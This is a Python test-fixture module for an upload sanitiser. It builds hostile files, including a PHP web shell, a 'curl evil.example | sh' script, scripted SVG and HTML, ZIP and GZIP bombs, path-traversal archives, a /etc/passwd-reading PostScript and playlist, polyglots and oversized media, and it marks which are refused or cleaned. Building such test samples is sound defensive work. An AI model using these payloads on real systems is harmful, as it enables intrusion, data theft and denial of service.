"""Hostile and telltale files, made on the spot: what each is, and whether (cleaned) it may get through."""

from __future__ import annotations

import gzip
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from PIL import Image

from tests.media import papers, photos
from tests.media.photos import WORDS, drawn, png_of, saved
from tests.media.recordings import recording

HTML = b"<!doctype html><script>alert('" + WORDS + b"')</script>"
PHP = b"<?php system($_GET['x']); /* " + WORDS + b" */ ?>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>' + WORDS + b"</script></svg>"


@dataclass(frozen=True)
class Case:
    """One file: `ending` is what it is kept as, None where it may not get through."""

    name: str
    make: Callable[[], bytes]
    ending: str | None = None


def zipped(*names: str, size: int = 10) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name in names:
            file.writestr(name, WORDS + bytes(size))
    return out.getvalue()


def tarred() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../etc/passwd"))
    return out.getvalue()


def box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), name) + body


def video() -> bytes:
    return recording("mp4", "libx264", "aac", movflags="use_metadata_tags")


def voice() -> bytes:
    return recording("ogg", "libopus")


def song() -> bytes:
    return recording("mp3", "libmp3lame", rate=44100, write_id3v1="1")


def moved(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


def claims_many_samples() -> bytes:
    """An index that speaks of four thousand million samples of 4 GB each."""
    content = video()
    at = content.index(b"stsz") + 8
    return content[:at] + b"\xff" * 8 + content[at + 8 :]


def points_out() -> bytes:
    """An index whose first chunk lies behind the end."""
    content = video()
    at = content.index(b"stco") + 12
    return content[:at] + b"\x7f\xff\xff\xff" + content[at + 4 :]


def nested(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = box(b"moov", body)
    return box(b"ftyp", b"isom" + bytes(4)) + body


def noise(start: bytes) -> bytes:
    return start + bytes((n * 131 + n // 7) % 256 for n in range(4000))


def pdf_of(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body


SELF_CALLING = pdf_of(
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n"
    b"trailer<</Root 1 0 R/Size 3>>\n"
)

REFUSED = (
    Case("nothing at all", lambda: b""),
    Case("one byte", lambda: b"\xff"),
    Case("a line of text", lambda: WORDS),
    Case("an HTML page", lambda: HTML),
    Case("a PHP script", lambda: PHP),
    Case("a shell script", lambda: b"#!/bin/sh\ncurl evil.example | sh\n"),
    Case("an SVG with a script", lambda: SVG),
    Case("an SVG after an XML head", lambda: b'<?xml version="1.0"?>' + SVG),
    Case("a packed SVG", lambda: gzip.compress(SVG)),
    Case("a ZIP bomb", lambda: zipped("a", size=100_000_000)),
    Case("a ZIP that climbs out", lambda: zipped("../../etc/cron.d/x")),
    Case("a Word file", lambda: zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
    Case("an old Office file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    Case("an Android app", lambda: zipped("AndroidManifest.xml", "classes.dex")),
    Case("a TAR", tarred),
    Case("a GZIP bomb", lambda: gzip.compress(bytes(50_000_000))),
    Case("a 7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    Case("a RAR", lambda: b"Rar!\x1a\x07\x01\0" + bytes(100)),
    Case("a Windows program", lambda: b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0"),
    Case("a Linux program", lambda: b"\x7fELF\x02\x01\x01" + bytes(100)),
    Case("a HEIC photo", lambda: box(b"ftyp", b"heic" + bytes(4) + b"mif1heic") + box(b"meta", bytes(60))),
    Case("an AVIF photo", lambda: box(b"ftyp", b"avif" + bytes(4) + b"mif1avif") + box(b"meta", bytes(60))),
    Case("a TIFF", lambda: saved(drawn(), "TIFF")),
    Case("an icon", lambda: saved(drawn(), "ICO")),
    Case("a Photoshop file", lambda: b"8BPS\0\x01" + bytes(100)),
    Case("PostScript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"),
    Case("an MVG that reads files", lambda: b"push graphic-context\nimage over 0,0 0,0 'https://evil.example'\n"),
    Case("a PNG of 100,000 x 100,000", lambda: png_of(100_000, 100_000)),
    Case("a PNG just over 40 megapixels", lambda: saved(Image.new("1", (8000, 5001)), "PNG")),
    Case("a PNG without data", lambda: png_of(10, 10)),
    Case("a PNG with bytes for data", lambda: png_of(10, 10, WORDS)),
    Case("a PNG of no size", lambda: png_of(0, 0)),
    Case("a JPEG that claims 65,500 x 65,500", lambda: moved(
        saved(drawn(), "JPEG"), struct.pack(">HH", 40, 64), struct.pack(">HH", 65500, 65500))),
    Case("a BMP that claims 60,000 x 60,000", lambda: moved(
        saved(drawn(), "BMP"), struct.pack("<ii", 64, 40), struct.pack("<ii", 60000, 60000))),
    Case("a GIF that claims 65,535 x 65,535", lambda: b"GIF89a" + b"\xff" * 4 + photos.gif()[10:]),
    Case("a WebP that claims 16,000 x 16,000", lambda: photos.webp_of(16000, 16000)),
    Case("a truncated JPEG", lambda: photos.jpeg()[:-300]),
    Case("a truncated PNG", lambda: saved(drawn((300, 300)), "PNG")[:200]),
    Case("a truncated WebP", lambda: photos.webp()[:60]),
    Case("JPEG's first bytes and noise", lambda: noise(b"\xff\xd8\xff\xe0")),
    Case("JPEG's first bytes and HTML", lambda: b"\xff\xd8\xff" + HTML),
    Case("GIF's first bytes and a script", lambda: b"GIF89a=1;/*" + HTML + b"*/"),
    Case("BMP's first bytes and a script", lambda: b"BM=1;" + HTML),
    Case("RIFF of another kind", lambda: b"RIFF\x20\0\0\0AVI LIST" + bytes(20)),
    Case("PDF's first bytes and HTML", lambda: pdf_of(HTML)),
    Case("a PDF whose page tree calls itself", lambda: SELF_CALLING),
    Case("a PDF that unpacks to a gigabyte", papers.bomb),
    Case("a PDF of 501 pages", papers.many_pages),
    Case("a PDF with a password", lambda: papers.paper(encryption=pikepdf.Encryption(user="x", owner="y"))),
    Case("a truncated voice note", lambda: voice()[:-400]),
    Case("Ogg's first bytes and noise", lambda: noise(b"OggS\0")),
    Case("an Ogg with HTML behind it", lambda: voice() + HTML),
    Case("an Ogg of two streams", lambda: voice() + moved(voice(), voice()[14:18], b"abcd")),
    Case("ID3 alone, with HTML", lambda: song()[: song().index(b"\xff\xfb")] + HTML),
    Case("an MP3's sync and HTML", lambda: b"\xff\xfb\x90\x64" + HTML * 20),
    Case("an MP3 tag that claims 256 MB", lambda: b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + WORDS),
    Case("an AMR with PHP in it", lambda: b"#!AMR\n" + PHP),
    Case("a WAV that claims 4 GB", lambda: b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff" + WORDS),
    Case("a video without a track", lambda: box(b"ftyp", b"isom" + bytes(4)) + box(b"moov", b"") + box(b"mdat", HTML)),
    Case("a video with boxes 100,000 deep", lambda: nested(100_000 // 8)),
    Case("a video that claims 4 billion samples", claims_many_samples),
    Case("a video that points out of the file", points_out),
    Case("a truncated video", lambda: video()[:5000]),
    Case("a video in fragments", lambda: recording("mp4", "libx264", movflags="frag_keyframe+empty_moov")),
    Case("Matroska that is no WebM", lambda: recording("matroska", "libvpx", "libopus")),
    Case("a WebM with an endless element", lambda: moved(
        recording("webm", "libvpx", "libopus"), b"\x16\x54\xae\x6b", b"\x16\x54\xae\x6b\x01" + b"\xff" * 7)),
    Case("WebM's first bytes and HTML", lambda: b"\x1aE\xdf\xa3" + HTML),
    Case("a Flash film", lambda: b"CWS\x0a" + bytes(100)),
    Case("a playlist that names files", lambda: b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"),
)  # fmt: skip

CLEANED = (
    Case("a photo with GPS, XMP, IPTC, ICC, comment", photos.jpeg, "jpg"),
    Case("a photo taken sideways", lambda: photos.jpeg(turn=6), "jpg"),
    Case("a photo with a ZIP behind it", lambda: photos.jpeg() + zipped("x.exe"), "jpg"),
    Case("a photo with HTML behind it", lambda: photos.jpeg() + HTML, "jpg"),
    Case("a photo with PHP in its comment", lambda: photos.jpeg()[:2] + photos.segment(0xFE, PHP) + photos.jpeg()[2:],
         "jpg"),
    Case("a screenshot with texts and a chunk of its own", photos.png, "png"),
    Case("a GIF with a comment and two frames", photos.gif, "png"),
    Case("a WebP with Exif and XMP", photos.webp, "jpg"),
    Case("a BMP with a ZIP behind it", lambda: saved(drawn(), "BMP") + zipped("x.exe"), "jpg"),
    Case("a photo of 39 megapixels", lambda: saved(drawn((7200, 5400)), "JPEG", exif=photos.exif(8)), "jpg"),
    Case("a PDF with scripts, files, forms, XMP", papers.paper, "pdf"),
    Case("a PDF form filled in", papers.form, "pdf"),
    Case("a PDF with a page, and a ZIP behind it", lambda: papers.paper() + zipped("x.exe"), "pdf"),
    Case("a voice note with comments", voice, "ogg"),
    Case("a sound in Vorbis with comments", lambda: recording("ogg", "vorbis"), "ogg"),
    Case("an MP3 with ID3 before and after", song, "mp3"),
    Case("an MP3 with HTML behind it", lambda: song() + HTML, "mp3"),
    Case("an AMR voice note", lambda: recording("amr", "libopencore_amrnb", rate=8000), "amr"),
    Case("a WAV with INFO", lambda: recording("wav", "pcm_s16le"), "wav"),
    Case("an M4A with a title", lambda: recording("ipod", "aac"), "m4a"),
    Case("a video with udta, place and names", video, "mp4"),
    Case("a video with HTML between the samples", lambda: video() + box(b"mdat", HTML) + box(b"uuid", PHP), "mp4"),
    Case("a QuickTime film", lambda: recording("mov", "libx264", "aac"), "mp4"),
    Case("a 3GP film", lambda: recording("3gp", "mpeg4", "libopencore_amrnb", rate=8000), "mp4"),
    Case("a WebM with tags", lambda: recording("webm", "libvpx", "libopus"), "webm"),
    Case("a WebM made while it was sent", lambda: recording("webm", "libvpx-vp9", "libopus", live="1"), "webm"),
)  # fmt: skip
